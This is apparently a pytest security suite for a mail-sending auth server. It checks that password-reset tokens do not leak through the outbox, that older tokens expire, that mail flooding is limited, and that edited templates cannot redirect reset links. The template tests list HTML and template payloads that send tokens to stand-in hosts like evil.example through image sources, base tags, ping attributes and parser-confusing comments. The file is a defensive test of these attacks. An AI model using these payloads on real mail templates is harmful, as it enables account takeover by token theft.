"""Attacks on password reset and email verification tokens (issue 11), each against a real
server on SQLite and PostgreSQL: reading a superuser's token in the outbox, pointing the reset
link at another site by replacing the template, and reusing an older reset mail."""

from __future__ import annotations

import re
import stat
from collections.abc import Callable, Iterator

import pytest
from sqlalchemy import create_engine

from roost import AsyncClient, AuthenticationError, ValidationError
from roost.backends.sql.tables import mail_messages, mail_templates, utcnow
from tests.conftest import (
    ADMIN_PASSWORD,
    ADMIN_USERNAME,
    REDIS_URL,
    RunningServer,
    require_redis,
    unique,
)
from tests.inbox import mail_inbox
from tests.smtp_relay import Relay, body_of, smtp_relay

pytestmark = pytest.mark.anyio
BACKENDS = pytest.mark.parametrize("backend", ["sqlite", "postgresql"])

ADMIN_EMAIL = "root@example.com"
LINK_URL = "https://app.example.com/auth/{action}?token={token}"


@pytest.fixture
def relay() -> Iterator[Relay]:
    with smtp_relay() as running:
        yield running


async def _key_holder(client: AsyncClient, scopes: list[str]) -> AsyncClient:
    admin = await client.auth.sign_in_with_password(ADMIN_USERNAME, ADMIN_PASSWORD)
    key = await admin.api_keys.create(unique("key"), scopes)
    return await client.auth.sign_in_with_token(key["key"], "api_key")


@BACKENDS
async def test_a_mail_reader_cannot_take_the_superuser_through_the_outbox(
    make_server: Callable[..., RunningServer], relay: Relay, backend: str
) -> None:
    running = make_server(
        backend, admin_email=ADMIN_EMAIL, auth_link_url=LINK_URL, smtp_url=relay.url
    )
    async with AsyncClient(api_url=running.url, max_retries=0) as client:
        reader = await _key_holder(client, ["mail:read"])
        await client.auth.request_password_reset(ADMIN_EMAIL)
        [kept] = await reader.mail.outbox(to=ADMIN_EMAIL)
        stolen = "".join(str(kept[part]) for part in ("subject", "text", "html"))
        assert "rpr_" not in stolen
        assert "https://app.example.com/auth/reset_password?token=[redacted]" in kept["text"]
        [delivered] = relay.texts()  # the superuser's own inbox has the working link
        found = re.search(r"reset_password\?token=(rpr_\S+)", delivered)
        assert found, delivered
        await client.auth.confirm_password_reset(found.group(1), "taken-back-password-1")


@BACKENDS
async def test_without_a_relay_the_token_reaches_the_mail_folder_and_not_the_api(
    make_server: Callable[..., RunningServer], backend: str
) -> None:
    running = make_server(backend, admin_email=ADMIN_EMAIL)
    async with AsyncClient(api_url=running.url) as client:
        reader = await _key_holder(client, ["mail:read"])
        with mail_inbox(running) as inbox:
            await client.auth.request_password_reset(ADMIN_EMAIL)
        token = inbox.token(ADMIN_EMAIL, "rpr")
        [kept] = await reader.mail.outbox(to=ADMIN_EMAIL)
        assert (kept["status"], token in str(kept)) == ("outbox", False)
        assert "[redacted]" in kept["text"]
        folder = running.settings.data_dir / "mail"
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        assert {stat.S_IMODE(p.stat().st_mode) for p in folder.glob("*.eml")} == {0o600}
        await client.auth.confirm_password_reset(token, "taken-back-password-1")


@BACKENDS
async def test_a_mail_admin_cannot_point_the_reset_link_at_another_site(
    make_server: Callable[..., RunningServer], relay: Relay, backend: str
) -> None:
    running = make_server(
        backend, admin_email=ADMIN_EMAIL, auth_link_url=LINK_URL, smtp_url=relay.url
    )
    evil = "https://evil.example/?t="
    attacks = [
        ("text", "Reset here: " + evil + "{{ token }}\n{{ link }}\n", None),
        ("text", "Reset here:\n" + evil + "{{ link }}\n", None),
        ("text", "Reset here: {{ link }} and again {{ link }}\n", None),
        ("text", "No link at all, {{ name }}.\n", None),
        ("subject", "{{ link }}\n{{ link }}", None),
        ("html", "{{ link }}\n", f'<a href="{evil}{{{{ link }}}}">reset</a>'),
        ("html", "{{ link }}\n", '<img src="{{ link }}">'),
        ("html", "{{ link }}\n", '<a href="{{ link }}" ping="https://evil.example/">go</a>'),
        ("html", "{{ link }}\n", '<base href="https://evil.example/"><a href="{{ link }}">g</a>'),
    ]
    async with AsyncClient(api_url=running.url, max_retries=0) as client:
        mail_admin = (await _key_holder(client, ["mail:admin", "mail:read"])).mail
        for field, text, markup in attacks:
            subject = text if field == "subject" else "Reset"
            body = "{{ link }}\n" if field == "subject" else text
            for alias in ("password_reset", "email_verification"):
                with pytest.raises(ValidationError) as caught:
                    await mail_admin.templates.put(alias, subject.split("\n")[0], body, markup)
                assert caught.value.details["field"] == field, (field, text, markup)
        reworded = "Hi {{ name }}, a new password?\n  {{ link }}  \nCheers\n"
        button = '<p>Hi {{ name }}</p><a href="{{ link }}" class="button">Reset</a>'
        await mail_admin.templates.put("password_reset", "Reset", reworded, button)
        await client.auth.request_password_reset(ADMIN_EMAIL)
    [message] = relay.received
    for part in ("plain", "html"):
        content = body_of(message, part)
        tokens = re.findall(r"rpr_[\w\-]+", content)
        assert len(tokens) == 1, content
        assert "evil" not in content
        assert f"https://app.example.com/auth/reset_password?token={tokens[0]}" in content


@BACKENDS
async def test_a_reset_spends_every_other_reset_mail_of_the_user(
    make_server: Callable[..., RunningServer], relay: Relay, backend: str
) -> None:
    running = make_server(backend, smtp_url=relay.url)
    name = unique("twice")
    email = f"{name}@example.com"
    async with AsyncClient(api_url=running.url) as client:
        await client.auth.register(name, "old-password-1", email=email)
        await client.auth.request_password_reset(email)
        await client.auth.request_password_reset(email)
        first, second = (re.findall(r"rpr_[\w\-]+", text)[0] for text in relay.texts()[1:])
        await client.auth.confirm_password_reset(second, "new-password-2")
        with pytest.raises(AuthenticationError) as caught:
            await client.auth.confirm_password_reset(first, "attacker-password-3")
        assert caught.value.code == "invalid_token"
        await client.auth.sign_in_with_password(name, "new-password-2")


async def test_what_an_older_server_kept_does_not_leak_a_token(
    make_server: Callable[..., RunningServer], relay: Relay
) -> None:
    """Rows written as a server before the fix wrote them (straight into the tenant's SQLite
    file): a template that builds its own link, and a kept message that holds a token."""
    running = make_server(admin_email=ADMIN_EMAIL, auth_link_url=LINK_URL, smtp_url=relay.url)
    engine = create_engine(f"sqlite:///{running.settings.data_dir / 'tenants' / 'default.db'}")
    with engine.begin() as conn:
        conn.execute(
            mail_templates.insert().values(
                alias="password_reset",
                subject="Reset",
                text="Go to https://evil.example/?t={{ token }}\n",
                updated_at=utcnow(),
            )
        )
        conn.execute(
            mail_messages.insert().values(
                id="old1",
                at=utcnow(),
                template="password_reset",
                sender="a@example.com",
                recipients=[ADMIN_EMAIL],
                recipient_list=f"\n{ADMIN_EMAIL}\n",
                subject="Reset",
                text="open https://app.example.com/x?token=rpr_default_old1_s3cr-et_x\n",
                status="sent",
            )
        )
    engine.dispose()
    async with AsyncClient(api_url=running.url, max_retries=0) as client:
        reader = await _key_holder(client, ["mail:read"])
        [old] = await reader.mail.outbox(to=ADMIN_EMAIL)
        assert old["text"] == "open https://app.example.com/x?token=[redacted]\n"
        await client.auth.request_password_reset(ADMIN_EMAIL)
    [delivered] = relay.texts()  # the built-in wording, not the template that builds a link
    assert "evil" not in delivered
    assert "https://app.example.com/auth/reset_password?token=rpr_" in delivered


@BACKENDS
async def test_markup_that_parsers_read_differently_cannot_steer_the_link(
    make_server: Callable[..., RunningServer], relay: Relay, backend: str
) -> None:
    """Python's html.parser reads `<!-->` as the start of a comment, a mail client's HTML5
    parser as a whole (empty) one: to the client the link stood inside `<img src>`."""
    running = make_server(
        backend, admin_email=ADMIN_EMAIL, auth_link_url=LINK_URL, smtp_url=relay.url
    )
    link = '<a href="{{ link }}">Reset</a>'
    attacks = [
        "<p>Hello {{ name }}</p><!--><img src='https://evil.test/log?-->" + link + "'>",
        "<!---><img src='https://evil.test/log?-->" + link + "'>",
        "<![CDATA[<img src='https://evil.test/log?]]>" + link + "'>",
        "<?php <img src='https://evil.test/log? ?>" + link + "'>",
        "</ x><img src='https://evil.test/log?>" + link + "'>",
        "<style>a{}</style>" + link,
        "<textarea>" + link + "</textarea>",
        '<svg><a href="{{ link }}">Reset</a></svg>',
        '<p title="x>y">' + link + "</p>",
        '<p title="x<y">' + link + "</p>",
        "<a href={{ link }}>Reset</a>",
        '<img src="https://evil.test/pixel">' + link,
        '<table background="https://evil.test/">' + link + "</table>",
        '<a href="{{ link }}" style="background:u&#114;l(https://evil.test/)">Reset</a>',
        '<a href="https://evil.test/" href="{{ link }}">Reset</a>',
    ]
    async with AsyncClient(api_url=running.url, max_retries=0) as client:
        mail_admin = (await _key_holder(client, ["mail:admin", "mail:read"])).mail
        for markup in attacks:
            for alias in ("password_reset", "email_verification"):
                with pytest.raises(ValidationError) as caught:
                    await mail_admin.templates.put(alias, "Reset", "{{ link }}\n", markup)
                refused = (caught.value.status_code, caught.value.code, caught.value.details)
                assert refused == (400, "link_misplaced", {"field": "html"}), markup
        await client.auth.request_password_reset(ADMIN_EMAIL)
    [message] = relay.received  # the built-in wording: no template was saved
    assert "evil" not in body_of(message, "plain")


def _mail_server(make_server: Callable[..., RunningServer], limiter: str, relay: Relay) -> str:
    """A server delivering to `relay`, its mail limits in this process or in Redis (where the
    hourly count of mails from 127.0.0.1 that earlier runs left is cleared first)."""
    if limiter == "memory":
        return make_server(smtp_url=relay.url, mails_per_client=30).url
    require_redis()
    import redis

    with redis.Redis.from_url(REDIS_URL) as store:
        store.delete("roost:limit:mail-from:127.0.0.1")
    return make_server(redis_url=REDIS_URL, smtp_url=relay.url, mails_per_client=30).url


@pytest.mark.parametrize("limiter", ["memory", "redis"])
async def test_sign_up_and_email_changes_cannot_flood_a_mailbox(
    make_server: Callable[..., RunningServer], relay: Relay, limiter: str
) -> None:
    """Each sign-up and email change mailed a verification link, and each sign-up with a taken
    address a notice, with no limit: anyone could send the victim (or anyone) mail at will."""
    url = _mail_server(make_server, limiter, relay)
    victim, mine = f"{unique('victim')}@example.com", f"{unique('me')}@evil.test"
    async with AsyncClient(api_url=url, max_retries=0) as client:
        name = unique("mallory")
        await client.auth.register(name, "mallory-password-1", email=victim, first_name="BUY")
        for _ in range(7):  # sign-ups with the taken address: the owner's notices
            await client.auth.register(unique("again"), "mallory-password-1", email=victim)
        # the first sign-up's link, then 5 notices
        assert [m["To"] for m in relay.received] == [victim] * 6
        mallory = await client.auth.sign_in_with_password(name, "mallory-password-1")
        for n in range(12):  # flip the address back and forth: 5 links to each at most
            await mallory.auth.update_profile(email=mine if n % 2 else f"x{victim}")
        assert sum(m["To"] == f"x{victim}" for m in relay.received) == 5
        for n in range(40):  # every change still happens, but at most 30 mails an hour go
            changed = await mallory.auth.update_profile(email=f"{n}{victim}")
            assert changed["email"] == f"{n}{victim}"
    assert len(relay.received) == 30
